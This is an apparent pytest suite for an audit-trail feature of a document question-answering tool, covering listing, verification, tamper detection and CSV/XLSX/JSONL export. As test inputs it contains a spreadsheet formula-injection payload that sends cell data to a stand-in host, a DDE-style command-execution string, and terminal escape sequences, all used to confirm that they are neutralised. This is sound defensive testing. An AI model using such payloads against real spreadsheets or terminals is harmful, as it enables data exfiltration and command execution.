"""`setpoint audit`: what was recorded is listed, shown, verified and exported."""

from __future__ import annotations

import csv
import getpass
import hashlib
import io
import json
import sqlite3
import subprocess
import sys
import tracemalloc
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest

from assistant.answers import Question
from assistant.audit import Audit
from assistant.errors import AuditFailed
from assistant.workspace import FOLDER, Workspace
from retrieval.audit_trail import AuditTrail
from retrieval.ledger import Ledger
from tests.assistant.commands import Ran
from tests.assistant.conftest import process_environment
from tests.assistant.site import HASHING, Library
from tests.conftest import REPO

ANSWERED = "how long may thawed vector be held on ice?"
REFUSED = "what is the trypsin concentration?"
Run = Callable[..., Ran]


@pytest.fixture
def asked(run: Run, own_site: Path) -> Path:
    """A site with an ingest, an answer and a refusal on record."""
    run("ask", ANSWERED, cwd=own_site)
    run("ask", REFUSED, cwd=own_site)
    return own_site


def tamper(root: Path, statement: str, *values: object) -> None:
    with sqlite3.connect(root / FOLDER / "ledger.db") as database:
        database.execute(statement, values)
    database.close()


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


# list and show


def test_records_are_listed_newest_first(run: Run, asked: Path) -> None:
    listed = run("audit", "list", "--json").json
    assert [(r["record"], r["action"], r["about"]) for r in listed] == [
        (4, "ask", REFUSED),
        (3, "ask", ANSWERED),
        (2, "ingest", ""),
        (1, "ingest begun", ""),
    ]
    assert listed[0]["outcome"].startswith("refused: ")
    assert listed[1]["outcome"].endswith(" claim") or listed[1]["outcome"].endswith(" claims")
    shown = run("audit", "list").text
    assert shown.index("trypsin") < shown.index("thawed") < shown.index("ingest")
    assert getpass.getuser() in shown


@pytest.mark.parametrize(
    ("options", "records"),
    [
        (("--action", "ask"), [4, 3]),
        (("--action", "forget"), []),
        (("--who", "nobody at all"), []),
        (("--limit", "1"), [4]),
        (("--since", "2999-01-01"), []),
        (("--since", "2020-01-01", "--action", "ingest"), [2]),
    ],
)
def test_a_list_is_filtered(run: Run, asked: Path, options: tuple[str, ...], records: list[int]) -> None:
    assert [r["record"] for r in run("audit", "list", *options, "--json").json] == records
    assert run("audit", "list", *options).code == 0


def test_a_record_shows_what_was_delivered(run: Run, asked: Path) -> None:
    shown = run("audit", "show", "3")
    for part in ("Record 3", "45 min", ANSWERED, "Documents", "Delivered", "digest", "previous"):
        assert part in shown.text
    found = run("audit", "show", "3", "--json").json
    assert found["detail"]["question"] == ANSWERED
    assert found["previous"] == run("audit", "show", "2", "--json").json["digest"]


def test_a_record_that_is_not_there(run: Run, asked: Path) -> None:
    missing = run("audit", "show", "99")
    assert missing.code == 2
    assert "audit list" in missing.says


def test_nothing_in_a_record_steers_a_terminal(run: Run, own_site: Path) -> None:
    run("ask", "what \x1b]52;c;eA==\x07 is\u202e the \x1b[2J trypsin?", cwd=own_site)
    for command in (("audit", "list"), ("audit", "show", "3"), ("audit", "show", "3", "--json")):
        out = run(*command).out
        assert b"\x1b" not in out
        assert "\u202e".encode() not in out
        assert b"\x07" not in out


def test_an_answer_s_record_says_what_it_was_made_with(library: Library) -> None:
    library.write("a.md", "# SOP-9 Light\n\nThe light is at 5 lux.\n")
    library.read()
    library.workspace.ask(Question("what light?", product="CT-1", session="s-1"))
    asked, read = library.workspace.audit.newest(2)
    assert (asked.detail["product"], asked.detail["session"]) == ("CT-1", "s-1")
    assert asked.detail["versions"] == {"setpoint": "0.1.0", "embedding": "hashing/256"}
    assert asked.detail["workspace_digest"]
    [outcome] = read.detail["documents"]  # pyright: ignore
    content = (library.root / "records" / "a.md").read_bytes()
    assert outcome["digest"] == hashlib.sha256(content).hexdigest()
    assert read.detail["versions"] == asked.detail["versions"]


@pytest.mark.parametrize("question", ["caf\udce9 holding time?", "\ud800", "a \x00 b"])
def test_a_question_that_is_no_text_is_recorded(library: Library, question: str) -> None:
    library.write("a.md", "# SOP-9 Light\n\nThe light is at 5 lux.\n")
    library.read()
    answer = library.workspace.ask(Question(question, product="\udcff", session="\udcff"))
    [record] = library.workspace.audit.newest(1)
    assert record.subject == answer.id
    assert library.workspace.audit.verify().problem is None


# verify


def test_a_sound_trail_verifies_and_says_its_head(run: Run, asked: Path) -> None:
    verified = run("audit", "verify")
    assert verified.code == 0
    head = run("audit", "verify", "--json").json["head"]
    assert "4 records" in verified.text
    assert head in verified.text
    assert run("audit", "verify", "--head", head[:14]).code == 0
    run("ask", REFUSED)
    assert run("audit", "verify", "--head", head).code == 0
    assert run("audit", "verify", "--head", "4:" + "0" * 12).code == 4
    assert run("audit", "verify", "--head", "what").code == 2


@pytest.mark.parametrize("flags", [(), ("--json",)])
def test_a_bad_trail_is_named_with_the_next_step(run: Run, asked: Path, flags: tuple[str, ...]) -> None:
    tamper(asked, "UPDATE audit_payloads SET payload = CAST('{\"claims\": []}' AS BLOB) WHERE record = 3")
    ran = run("audit", "verify", *flags)
    assert ran.code == 4
    if flags:
        assert ran.json["verified"] is False
        assert ran.json["problem"]["record"] == 3
    else:
        assert "record 3 has a payload that is not what was recorded" in ran.says
        assert "backup" in ran.says
        assert ran.out == b""
    assert run("audit", "list").code == 0
    assert run("audit", "show", "3").code == 0


def test_a_payload_that_cannot_be_read_is_shown_as_such(run: Run, asked: Path) -> None:
    tamper(asked, "UPDATE audit_payloads SET payload = x'ff00' WHERE record = 3")
    assert "cannot be read" in run("audit", "show", "3").text
    assert run("audit", "show", "3", "--json").json["detail"] is None
    assert "cannot be read" in run("audit", "list").text
    assert run("audit", "verify").code == 4


# export


def test_csv_opens_in_excel_with_every_record(run: Run, asked: Path) -> None:
    verified = run("audit", "verify", "--json").json
    made = run("audit", "export", "--out", "trail.csv")
    assert (made.code, made.out) == (0, b"")
    data = (asked / "trail.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = rows_of(data.decode("utf-8-sig"))
    assert [row["record"] for row in rows] == ["1", "2", "3", "4"]
    assert {row["trail head"] for row in rows} == {verified["head"]}
    assert {row["trail verified"] for row in rows} == {"yes"}
    assert "45 min" in rows[2]["delivered"]
    assert rows[2]["question, reason or file"] == ANSWERED
    assert json.loads(rows[2]["detail (JSON)"])["question"] == ANSWERED
    assert rows[2]["at (UTC)"][:2] == "20"
    assert hashlib.sha256(data).hexdigest() in made.says


def test_xlsx_has_typed_cells_and_a_sheet_on_the_trail(run: Run, asked: Path) -> None:
    assert run("audit", "export", "--out", "trail.xlsx").code == 0
    book = openpyxl.load_workbook(asked / "trail.xlsx")
    records, about = book.worksheets
    assert [row[0] for row in records.iter_rows(min_row=2, values_only=True)] == [1, 2, 3, 4]
    state = {row[0]: row[1] for row in about.iter_rows(min_row=2, values_only=True)}
    assert (state["verified"], state["records"]) == (True, 4)
    assert str(state["head"]).startswith("4:")
    assert "problem" not in state


def test_jsonl_has_everything_and_ends_with_the_trail(run: Run, asked: Path) -> None:
    shown = [run("audit", "show", str(n), "--json").json for n in (1, 2, 3, 4)]
    assert run("audit", "export", "--out", "trail.jsonl").code == 0
    *records, last = map(json.loads, (asked / "trail.jsonl").read_text().splitlines())
    assert records == shown
    assert last["trail"]["verified"] is True
    assert last["trail"]["head"] == f"4:{shown[-1]['digest']}"
    assert last["trail"]["by"] == getpass.getuser()


def test_csv_goes_into_a_pipe_without_a_mark(spawn: Run, run: Run, asked: Path) -> None:
    piped = spawn("audit", "export", "--out", "-", cwd=asked)
    assert piped.code == 0
    assert piped.out.startswith(b'"record"')
    assert len(rows_of(piped.text)) == 4


def test_every_export_is_itself_recorded(run: Run, asked: Path) -> None:
    for name in ("trail.csv", "trail.xlsx", "trail.jsonl"):
        run("audit", "export", "--out", name)
        found = run("audit", "list", "--limit", "1", "--json").json[0]
        detail = run("audit", "show", str(found["record"]), "--json").json["detail"]
        assert (found["action"], found["subject"], detail["file"]) == ("export", "audit", name)
        assert detail["sha256"] == hashlib.sha256((asked / name).read_bytes()).hexdigest()
        assert (detail["records"], detail["verified"]) == (found["record"] - 1, True)
    assert run("audit", "verify").code == 0


def test_formulas_in_questions_are_text_in_every_sheet(run: Run, own_site: Path) -> None:
    attack = '=HYPERLINK("http://x.example?"&A1,"trypsin")'
    for question in (attack, "@SUM(1+1)*cmd|' /C calc'!A0", "\t=trypsin", "+1 trypsin"):
        run("ask", question, cwd=own_site)
    run("audit", "export", "--out", "trail.csv")
    run("audit", "export", "--out", "trail.xlsx")
    cells = [cell for row in csv.reader(io.StringIO((own_site / "trail.csv").read_text("utf-8-sig"))) for cell in row]
    assert f"'{attack}" in cells
    sheets = openpyxl.load_workbook(own_site / "trail.xlsx").worksheets
    typed = [cell for sheet in sheets for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in typed} <= {"s", "n", "b"}
    cells += [str(cell.value) for cell in typed if cell.data_type == "s"]
    assert not [cell for cell in cells if cell.lstrip()[:1] in set("=+-@") and cell.lstrip()]


def test_a_bad_trail_is_exported_and_says_so(run: Run, asked: Path) -> None:
    tamper(asked, "UPDATE audit SET who = 'eve' WHERE id = 2")
    made = run("audit", "export", "--out", "trail.csv")
    assert made.code == 4
    assert "record 2" in made.says
    rows = rows_of((asked / "trail.csv").read_text("utf-8-sig"))
    assert {row["trail verified"][:12] for row in rows} == {"NO: record 2"}
    assert run("audit", "export", "--out", "trail.jsonl").code == 4
    assert json.loads((asked / "trail.jsonl").read_text().splitlines()[-1])["trail"]["problem"]["record"] == 2


@pytest.mark.parametrize("out", ["trail.doc", "trail", "nowhere/trail.csv", "nowhere/trail.xlsx", ".setpoint/t.csv"])
def test_a_place_that_will_not_do_is_named_and_nothing_recorded(run: Run, asked: Path, out: str) -> None:
    made = run("audit", "export", "--out", out)
    assert made.code == 2
    assert out.rsplit("/", 1)[-1] in made.says
    assert "name " in made.says
    assert not (asked / out).exists()
    assert run("audit", "list", "--limit", "1", "--json").json[0]["record"] == 4


@pytest.mark.parametrize("out", ["trail.csv", "trail.xlsx", "trail.jsonl", "-"])
def test_what_cannot_be_recorded_is_not_exported(
    run: Run, asked: Path, monkeypatch: pytest.MonkeyPatch, out: str
) -> None:
    tamper(asked, "UPDATE meta SET value = 'nonsense' WHERE key = 'audit_head'")
    before = sorted(asked.iterdir())
    made = run("audit", "export", "--out", out)
    assert (made.code, made.out) == (4, b"")
    assert "audit record could not be written" in made.says
    assert sorted(asked.iterdir()) == before


def test_an_export_holds_a_batch_of_the_trail_and_no_more(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("retrieval.audit_rows.BATCH", 10)
    ledger = Ledger.open(f"sqlite:///{tmp_path / 'ledger.db'}")
    audit = Audit(ledger, tmp_path / "workspace")
    peaks: list[list[int]] = []
    for count in (30, 600):
        for n in range(count):
            ledger.audit.record("ana", "ask", f"a-{n}", {"question": "q", "claims": [{"text": "x" * 20_000}]})
        peaks.append([peak_of(audit, tmp_path / f"t.{kind}") for kind in ("csv", "xlsx", "jsonl")])
    ledger.close()
    for few, many in zip(*peaks, strict=True):
        assert many < 2 * few + 1_000_000, peaks  # 600 records hold 12 MB


def peak_of(audit: Audit, out: Path) -> int:
    tracemalloc.start()
    audit.export(out)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return peak


# A full disk


FILLING = f"""
import os, resource, sys
from pathlib import Path
from assistant import cli
from assistant.answers import Question
from assistant.workspace import Workspace
with Workspace.open() as workspace:
    workspace.ask(Question({REFUSED!r}))
    full = os.path.getsize(".setpoint/ledger.db-wal")
    resource.setrlimit(resource.RLIMIT_FSIZE, (full, full))
    sys.argv = ["setpoint", "ask", {ANSWERED!r}]
    cli.main()
"""


def test_a_full_disk_stops_the_answer(own_site: Path) -> None:
    """A limit on the size of files stands for the disk: the write-ahead log cannot grow."""
    done = subprocess.run(
        [sys.executable, "-c", FILLING],
        cwd=own_site,
        env={**process_environment(), "PYTHONPATH": str(REPO)},
        capture_output=True,
        check=False,
        timeout=120,
    )
    assert done.returncode == 4, done.stderr
    assert done.stdout == b""
    assert b"audit record could not be written" in done.stderr
    assert b"45 min" not in done.stderr
    assert b"Traceback" not in done.stderr
    workspace = Workspace(own_site / FOLDER, HASHING)
    [newest] = workspace.audit.newest(1)
    assert newest.detail["question"] == REFUSED
    assert workspace.audit.verify().problem is None
    workspace.close()


def test_an_audit_that_fails_says_so_for_every_action(library: Library, monkeypatch: pytest.MonkeyPatch) -> None:
    def fails(*_: object) -> None:
        from retrieval.errors import WorkspaceDamaged

        raise WorkspaceDamaged("the disk is full")

    monkeypatch.setattr(AuditTrail, "record", fails)
    with pytest.raises(AuditFailed):
        library.workspace.audit.record("review", "a-1", {"decision": "approve", "reason": "checked"})
    with pytest.raises(AuditFailed):
        library.workspace.audit.export(library.root / "t.csv")
    assert not (library.root / "t.csv").exists()
